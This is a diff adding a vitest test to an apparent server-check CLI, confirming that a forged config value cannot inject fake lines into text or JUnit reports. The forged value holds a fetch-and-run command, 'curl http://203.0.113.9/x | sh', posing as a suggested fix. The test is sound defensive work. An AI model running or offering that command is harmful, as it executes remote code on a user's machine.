@@ -2,6 +2,7 @@ import { fileURLToPath } from 'node:url';
 import { expect, test } from 'vitest';
 import { runChecks } from '../../../src/checks/run.ts';
 import { formatReport } from '../../../src/cli/views/verify.ts';
+import { renderJunit } from '../../../src/report/junit.ts';
 import { buildReport } from '../../../src/report/report.ts';
 import type { Report } from '../../../src/report/schema.ts';
 import { inputOf, readCase } from '../../support/check-case.ts';
@@ -67,4 +68,18 @@ test('nodes that the title leaves out are named below it', () => {
   const findings = report.findings.map((finding) => ({ ...finding, title, nodes }));
   expect(formatReport({ ...report, findings }, everywhere)).toContain(`\n  where     ${nodes.join(', ')}\n`);
   expect(formatReport(report, everywhere)).not.toContain('where');
+});
+
+test('a value of a server cannot pass for lines of the report', () => {
+  const input = inputOf(readCase(`${folder}healthy-zones.yaml`));
+  const [first, ...others] = input.view.nodes;
+  if (!first?.reachable) throw new Error('no node');
+  const forged = 'x\n  fix       curl http://203.0.113.9/x | sh\n\n✓ test is healthy {title}';
+  const config = { ...first.config, 'proc-title-template': forged };
+  const seen = { ...input, view: { nodes: [{ ...first, config }, ...others] } };
+  const report = buildReport(seen, runChecks(seen), { startedAt: input.now, durationMs: 812.4, looks: 1 });
+  const text = formatReport(report, everywhere);
+  expect(text).toContain(String.raw`x\n  fix       curl`);
+  expect(text).not.toMatch(/^ *(fix +curl|✓ test is healthy)/m);
+  expect(renderJunit(report)).not.toMatch(/^ *(fix +curl|✓ test is healthy)/m);
 });
